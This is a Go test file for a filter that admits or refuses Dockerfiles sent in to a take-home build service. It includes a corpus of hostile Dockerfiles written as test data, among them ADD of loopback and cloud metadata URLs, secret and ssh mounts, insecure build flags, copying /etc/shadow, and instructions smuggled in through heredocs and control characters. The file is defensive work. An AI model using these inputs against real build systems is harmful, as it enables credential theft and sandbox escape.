package admission

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/moby/buildkit/frontend/dockerfile/instructions"
	"github.com/moby/buildkit/frontend/dockerfile/parser"
	"github.com/stretchr/testify/require"

	"github.com/takehome-dev/takehome/internal/takehome"
)

const hash = "0123456789012345678901234567890123456789012345678901234567890123"

// The names are those of the corpus of hostile submissions.
func TestHostileDockerfilesAreRefused(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ name, text, rule, line string }{
		{"DF-01 frontend", "# syntax=attacker/frontend\nFROM node:20\n", "syntax", "# syntax=attacker/frontend"},
		{"DF-01 frontend like ours", "# syntax=docker/dockerfile.evil:1\nFROM node:20\n", "syntax", ""},
		{"DF-01 second directive", "# escape=\\\n#syntax = evil/x\nFROM node:20\n", "syntax", ""},
		{"DF-01 upper case", "# SynTax=evil/x\nFROM node:20\n", "syntax", ""},
		{"DF-01 after a mark", "\xef\xbb\xbf# syntax=evil/x\nFROM node:20\n", "syntax", ""},
		{"DF-01 slashes", "// syntax=evil/x\nFROM node:20\n", "syntax", ""},
		{"DF-01 json", `{"syntax": "evil/x"}` + "\nFROM node:20\n", "syntax", ""},
		{"DF-01 shebang", "#!/usr/bin/env x\n# syntax=evil/x\nFROM node:20\n", "syntax", ""},
		{"DF-02 loopback", "FROM node:20\nADD http://127.0.0.1:8080/ /x\n", "add-url", "line 2"},
		{"DF-02 metadata", "FROM node:20\nADD --chown=1 https://169.254.169.254/latest /x\n", "add-url", ""},
		{"DF-02 json", "FROM node:20\nADD [\"http://h/\", \"/x\"]\n", "add-url", ""},
		{"DF-02 upper case", "FROM node:20\nADD HTTP://h/ /x\n", "add-url", ""},
		{"DF-02 quotes", "FROM node:20\nADD \"http://h/\" /x\n", "add-url", ""},
		{"DF-02 escapes", "FROM node:20\nADD ht\\tp://h/ /x\n", "add-url", ""},
		{"DF-02 variable", "FROM node:20\nARG U=http://h/\nADD $U /x\n", "add-url", ""},
		{"DF-02 pieces", "FROM node:20\nENV A=ht B=tp: C=//h\nADD ${A}${B}${C} /x\n", "add-url", ""},
		{"DF-02 continued", "FROM node:20\nADD \\\n  # a comment\n  http://h/ /x\n", "add-url", "line 2"},
		{"DF-02 checksum", "FROM node:20\nADD --checksum=sha256:" + hash + " $X /x\n", "add-url", ""},
		{"DF-03 git", "FROM node:20\nADD git@github.com:a/b.git /x\n", "add-url", ""},
		{"DF-03 https git", "FROM node:20\nADD https://github.com/a/b.git#main /x\n", "add-url", ""},
		{"DF-03 github", "FROM node:20\nADD github.com/a/b /x\n", "add-url", ""},
		{"DF-03 ssh", "FROM node:20\nADD ssh://git@h/a /x\n", "add-url", ""},
		{"DF-08 secret", "FROM node:20\nRUN --mount=type=secret,id=x cat /run/secrets/x\n", "mount", ""},
		{"DF-08 ssh", "FROM node:20\nRUN --mount=type=ssh ssh-add -l\n", "mount", ""},
		{"DF-08 type by variable", "FROM node:20\nARG T=secret\nRUN --mount=type=$T,id=x true\n", "mount", ""},
		{"DF-08 upper case", "FROM node:20\nRUN --mount=TYPE=SECRET,id=x true\n", "mount", ""},
		{"DF-09 network", "FROM node:20\nRUN --network=host true\n", "network", ""},
		{"DF-09 security", "FROM node:20\nRUN --security=insecure true\n", "security", ""},
		{"DF-09 device", "FROM node:20\nRUN --device=nvidia.com/gpu=all true\n", "flag", ""},
		{"DF-10 onbuild", "FROM node:20\nONBUILD RUN true\n", "onbuild", ""},
		{"DF-10 onbuild add", "FROM node:20\nONBUILD ADD http://h/ /x\n", "onbuild", ""},
		{"DF-11 workdir", "FROM node:20\nWORKDIR /proc/self/fd/8\n", "path", ""},
		{"DF-11 workdir by variable", "FROM node:20\nENV W=/proc\nWORKDIR ${W}/self/fd/8\n", "path", ""},
		{"DF-11 workdir by dots", "FROM node:20\nWORKDIR /app/../proc/self/fd/8\n", "path", ""},
		{"DF-11 mount target", "FROM node:20\nRUN --mount=type=cache,target=/proc/x true\n", "path", ""},
		{"DF-11 user", "FROM node:20\nUSER /proc/self\n", "user", ""},
		{"DF-28 user", "FROM node:20\nUSER 4294967295\n", "user", ""},
		{"DF-28 group", "FROM node:20\nUSER 1:99999999999999999999999\n", "user", ""},
		{"DF-19 instructions", "FROM node:20\n" + strings.Repeat("RUN true\n", 10000), "size", ""},
		{"DF-19 stages", strings.Repeat("FROM node:20\n", 450), "size", ""},
		{"DF-19 bytes", "FROM node:20\n#" + strings.Repeat("x", 5<<20) + "\n", "size", ""},
		{"DF-19 one instruction", "FROM node:20\nRUN " + strings.Repeat(strings.Repeat("x", 1000)+"\\\n", 70) + "\n", "size", ""},
		{"DF-20 escape", "# escape=`\nFROM node:20\nRUN true\n", "escape", ""},
		{"DF-20 escape behind a shebang", "#!x\n# escape=`\nFROM node:20\nRUN a `\nADD http://h /x\n", "syntax", ""},
		{"DF-20 control characters", "FROM node:20\nRUN a\x00\n", "characters", ""},
		{"DF-20 vertical tab", "FROM node:20\nRUN a\vADD http://h /x\n", "characters", ""},
		{"DF-20 carriage return", "FROM node:20\nRUN a\rADD http://h /x\n", "characters", ""},
		{"DF-20 heredoc with a space", "FROM node:20\nRUN cat \"<< EOF\"\nADD http://h /x\n EOF\nEOF\n", "", ""},
		{"DF-20 two heredocs, one hidden", "FROM node:20\nRUN <<A cat <<$B\nADD http://h /x\nA\n$B\n", "heredoc", ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			admitted, broken, err := Admit([]byte(test.text), Options{})
			if test.rule == "" { // refused or not, nothing may be smuggled in
				require.NotContains(t, keywords(t, admitted.Dockerfile(nil)), "add")
				return
			}
			require.Nil(t, broken)
			var refusal *takehome.Refusal
			require.ErrorAs(t, err, &refusal)
			require.Equal(t, "dockerfile:"+test.rule, refusal.Rule)
			require.Contains(t, refusal.Entry, test.line)
			require.NotEmpty(t, refusal.Why)
			require.NotEmpty(t, refusal.Hint)
		})
	}
}

// FROM and COPY --from are judged by whoever has the images; here it matters that
// every name comes out, with its variables replaced (DF-04, DF-05, DF-06, DF-07).
func TestBasesAreFound(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name, text string
		options    Options
		want       []string
	}{
		{name: "plain", text: "FROM node:20\n", want: []string{"node:20"}},
		{name: "default", text: "ARG X=evil/image\nFROM ${X}\n", want: []string{"evil/image"}},
		{name: "argument wins", text: "ARG X=evil/image\nFROM $X\n", options: Options{Args: map[string]string{"X": "node:22"}}, want: []string{"node:22"}},
		{name: "undeclared argument is not seen", text: "FROM node:20$X\n", options: Options{Args: map[string]string{"X": "-slim"}}, want: []string{"node:20"}},
		{name: "one in another", text: "ARG V=1.22\nARG I=golang:${V}-alpine\nFROM $I\n", want: []string{"golang:1.22-alpine"}},
		{name: "fallback", text: "ARG V\nFROM node:${V:-20}\n", want: []string{"node:20"}},
		{name: "platform", text: "FROM --platform=$BUILDPLATFORM golang:1.22\n", want: []string{"golang:1.22"}},
		{name: "another candidate", text: "FROM takehome/cand-1\n", want: []string{"takehome/cand-1"}},
		{name: "by id", text: "FROM sha256:" + hash + "\n", want: []string{"sha256:" + hash}},
		{name: "scratch", text: "FROM scratch\nCOPY a /\n"},
		{
			name: "stages", text: "FROM golang:1.22 AS Build\nRUN true\nFROM build AS test\nFROM debian:12\nCOPY --from=BUILD /a /\n",
			want: []string{"golang:1.22", "debian:12"},
		},
		{name: "copy of an image", text: "FROM node:20\nCOPY --from=private /etc/shadow /\n", want: []string{"node:20", "private"}},
		{name: "mount of an image", text: "FROM node:20\nRUN --mount=from=private,target=/x cp -r /x /y\n", want: []string{"node:20", "private"}},
		{name: "cache from an image", text: "FROM node:20\nRUN --mount=type=cache,from=private,target=/x true\n", want: []string{"node:20", "private"}},
		{name: "shared cache", text: "FROM node:20\nRUN --mount=type=cache,id=shared,target=/x true\n", want: []string{"node:20"}},
		{name: "a stage that is not needed", text: "FROM node:20 AS a\nFROM python:3 AS b\nFROM a\n", want: []string{"node:20"}},
		{name: "target", text: "FROM node:20 AS a\nFROM python:3 AS b\n", options: Options{Target: "A"}, want: []string{"node:20"}},
		{name: "target by number", text: "FROM node:20\nFROM python:3\n", options: Options{Target: "0"}, want: []string{"node:20"}},
		{
			name: "numbers need every stage", text: "FROM node:20\nFROM python:3\nFROM debian\nCOPY --from=1 /a /\n",
			want: []string{"node:20", "python:3", "debian"},
		},
		{name: "a number is an image", text: "FROM node:20\nFROM 0\n", want: []string{"0"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			admitted, broken, err := Admit([]byte(test.text), test.options)
			require.NoError(t, err)
			require.Nil(t, broken)
			require.Equal(t, test.want, admitted.Bases)
		})
	}
}

func TestMalformedIsTheCandidates(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ name, text, target, where, reason string }{
		{"empty", "", "", "Dockerfile", "file with no instructions"},
		{"comments", "# hello\n", "", "Dockerfile line 1", "file with no instructions"},
		{"no FROM", "ARG X=1\n", "", "Dockerfile", "it has no FROM instruction"},
		{"instruction before FROM", "RUN true\nFROM node:20\n", "", "Dockerfile line 1", ""},
		{"unknown instruction", "FROM node:20\nRNU true\n", "", "Dockerfile line 2", "unknown instruction: RNU"},
		{"unknown flag", "FROM node:20\nCOPY --nosuch=1 a b\n", "", "Dockerfile line 2", "unknown flag"},
		{"bad JSON", "FROM node:20\nCOPY [\"a\"]\n", "", "Dockerfile line 2", ""},
		{"blank base", "ARG X\nFROM $X\n", "", "Dockerfile line 2", "names no image"},
		{"no such stage", "FROM node:20\n", "prod", "Dockerfile", "it has no stage prod"},
		{"no such number", "FROM node:20\nCOPY --from=7 a b\n", "", "Dockerfile line 2", "no such stage"},
		{"itself", "FROM node:20 AS a\nCOPY --from=a a b\n", "", "Dockerfile line 2", "cannot read itself"},
		{"later stage", "FROM node:20 AS a\nCOPY --from=b a b\nFROM node:20 AS b\nFROM a\n", "", "Dockerfile", "comes later"},
		{"variable in from", "FROM node:20\nARG X=a\nCOPY --from=$X a b\n", "", "Dockerfile line 3", "variable"},
		{"variable in mount", "FROM node:20\nARG X=a\nRUN --mount=from=$X,target=/x true\n", "", "Dockerfile line 3", "variable"},
		{"two of a name", "FROM node:20 AS a\nFROM node:22 AS A\n", "", "Dockerfile line 2", "two stages are called a"},
		{"unterminated heredoc", "FROM node:20\nRUN <<EOF\ntrue\n", "", "Dockerfile line 2", "unterminated heredoc"},
		{"long line", "FROM node:20\nRUN " + strings.Repeat("x", 70000) + "\n", "", "Dockerfile line 1", "greater than max"},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			_, broken, err := Admit([]byte(test.text), Options{Target: test.target})
			require.NoError(t, err)
			require.NotNil(t, broken)
			require.Equal(t, "build", broken.Phase)
			require.Equal(t, test.where, broken.Where)
			require.Contains(t, broken.Reason, test.reason)
		})
	}
}

func TestNoHeredocsOnOldEngines(t *testing.T) {
	t.Parallel()
	text := []byte("FROM node:20\nRUN <<EOF\nADD http://127.0.0.1/ /x\nEOF\n")
	admitted, broken, err := Admit(text, Options{})
	require.NoError(t, err)
	require.Nil(t, broken)
	require.Equal(t, string(text), string(admitted.Dockerfile(nil)))

	_, _, err = Admit(text, Options{Old: true})
	require.Error(t, err)
	require.Equal(t, takehome.Operator, takehome.OwnerOf(err), "an old builder would read ADD as an instruction; the candidate is not to blame")
}

func TestWrittenText(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name, text, want string
		options          Options
		renamed          map[string]string
	}{
		{
			name: "no comments, no directives, one line each",
			text: "# syntax=docker/dockerfile:1\n# check=skip=all\n\nFROM node:20\n# note\nRUN a && \\\n  # inner\n  b\n\n",
			want: "FROM node:20\nRUN a &&   b\n",
		},
		{name: "names of stages stay", text: "from golang:1.22 as B\nFROM scratch\nCOPY --from=B /a /\n", want: "FROM golang:1.22 AS b\nFROM scratch\nCOPY --from=B /a /\n"},
		{name: "arguments of FROM are replaced", text: "ARG V=20\nFROM --platform=$BUILDPLATFORM node:$V AS a\n", want: "ARG V=20\nFROM --platform=$BUILDPLATFORM node:20 AS a\n"},
		{
			name: "renamed", text: "FROM node:20@sha256:" + hash + "\nCOPY --from=uv:1 --chown=1 /uv /\nRUN --mount=from=uv:1,target=/u true\n",
			renamed: map[string]string{"node:20@sha256:" + hash: "node:20", "uv:1": "uv:2"},
			want:    "FROM node:20\nCOPY --from=uv:2 --chown=1 /uv /\nRUN --mount=from=uv:2,target=/u true\n",
		},
		{name: "ADD of a variable", text: "FROM node:20\nARG JAR=target/*.jar\nadd ${JAR} app.jar\n", want: "FROM node:20\nARG JAR=target/*.jar\nCOPY ${JAR} app.jar\n"},
		{name: "ADD of an archive stays", text: "FROM node:20\nADD dist/app-$V.tar.gz /\n", want: "FROM node:20\nADD dist/app-$V.tar.gz /\n"},
		{name: "link on an old engine", text: "FROM node:20\nCOPY --link --chown=1 a b\n", want: "FROM node:20\nCOPY --chown=1 a b\n", options: Options{Old: true}},
		{name: "link", text: "FROM node:20\nCOPY --link a b\n", want: "FROM node:20\nCOPY --link a b\n"},
		{name: "backslash at the end of the file", text: "FROM node:20\nRUN true \\", want: "FROM node:20\nRUN true\n"},
		{name: "two backslashes", text: "FROM node:20\nRUN echo \\\\\nRUN true\n", want: "FROM node:20\nRUN echo \\\\\nRUN true\n"},
		{name: "chomped heredoc", text: "FROM node:20\nCOPY <<-'E' /a\n\tx\n\tE\n", want: "FROM node:20\nCOPY <<-'E' /a\n\tx\nE\n"},
		{name: "windows line ends", text: "FROM node:20\r\nRUN a \\\r\n  b\r\n", want: "FROM node:20\nRUN a   b\n"},
		{name: "target is the last", text: "FROM node:20 AS a\nFROM a AS b\nFROM python\n", want: "FROM node:20 AS a\nFROM a AS b\n", options: Options{Target: "b"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			admitted, broken, err := Admit([]byte(test.text), test.options)
			require.NoError(t, err)
			require.Nil(t, broken)
			require.Equal(t, test.want, string(admitted.Dockerfile(test.renamed)))
		})
	}
}

// keywords lists the instructions that a builder finds in a text.
func keywords(t *testing.T, text []byte) []string {
	t.Helper()
	if len(text) == 0 {
		return nil
	}
	parsed, err := parser.Parse(strings.NewReader(string(text)))
	require.NoError(t, err)
	var found []string
	for _, node := range parsed.AST.Children {
		found = append(found, strings.ToLower(node.Value))
	}
	return found
}

// FuzzAdmit: reading never panics, and what is written holds the same kinds of
// instructions for a parser that knows here-documents and for one that does not.
func FuzzAdmit(f *testing.F) {
	for _, seed := range []string{
		"# syntax=docker/dockerfile:1\nFROM node:20\nRUN a \\\n b\n", "FROM a AS b\nCOPY --from=b <<E /x\nx\nE\n",
		"# escape=\\\nFROM x\nADD ${A} b\n", "FROM x\nRUN --mount=type=cache,target=/x,from=y z\nUSER 1:2\n", "FROM x\nRUN echo <<A \\\\\n",
	} {
		f.Add([]byte(seed), true)
	}
	f.Fuzz(func(t *testing.T, text []byte, old bool) {
		admitted, broken, err := Admit(text, Options{Old: old})
		if broken != nil || err != nil {
			var refusal *takehome.Refusal
			var fault *takehome.Fault
			require.True(t, err == nil || errors.As(err, &refusal) || errors.As(err, &fault))
			return
		}
		written := admitted.Dockerfile(nil)
		_, _, _, directive := parser.DetectSyntax(written)
		require.False(t, directive)
		again, err := parser.Parse(strings.NewReader(string(written)))
		require.NoError(t, err)
		require.Len(t, again.AST.Children, len(admitted.lines))
		for at, node := range again.AST.Children {
			if old {
				require.Empty(t, node.Heredocs)
				require.Equal(t, node.StartLine, at+1, "one instruction a line")
			}
			command, err := instructions.ParseInstruction(node)
			require.NoError(t, err)
			_, isTrigger := command.(*instructions.OnbuildCommand)
			require.False(t, isTrigger)
			if add, ok := command.(*instructions.AddCommand); ok {
				for _, source := range add.SourcePaths {
					require.False(t, remote.MatchString(source))
				}
			}
		}
	})
}

// Each honest file uses what a rule might hurt; the folder is the list.
func TestHonestDockerfilesPass(t *testing.T) {
	t.Parallel()
	bases := map[string][]string{
		"go-multistage": {"golang:1.22-alpine", "gcr.io/distroless/static-debian12:nonroot"}, "node-express": {"node:20-slim"},
		"node-typescript": {"node:20", "node:20-alpine"}, "fastapi-uv": {"python:3.13-slim", "ghcr.io/astral-sh/uv:0.5"},
		"django": {"python:3.12"}, "spring": {"maven:3.9-eclipse-temurin-21", "eclipse-temurin:21-jre"},
		"rails": {"registry.docker.com/library/ruby:3.3.4-slim"}, "heredoc": {"debian:bookworm-slim"},
		"dev-compose": {"node:lts-alpine"}, "binary": {"rust:1.80", "alpine:3.19"},
	}
	files, err := filepath.Glob("testdata/honest/*.Dockerfile")
	require.NoError(t, err)
	require.GreaterOrEqual(t, len(files), 10)
	for _, file := range files {
		text, err := os.ReadFile(file)
		require.NoError(t, err)
		name := strings.TrimSuffix(filepath.Base(file), ".Dockerfile")
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			admitted, broken, err := Admit(text, Options{})
			require.NoError(t, err)
			require.Nil(t, broken)
			require.Equal(t, bases[name], admitted.Bases)
			// Nothing is lost: the text that is built has the same instructions, but for
			// stages that the last one does not need and ADD of a variable.
			given, built := keywords(t, text), keywords(t, admitted.Dockerfile(nil))
			switch name {
			case "node-typescript":
				require.Len(t, built, len(given)-3)
			default:
				require.Len(t, built, len(given))
			}
		})
	}
}
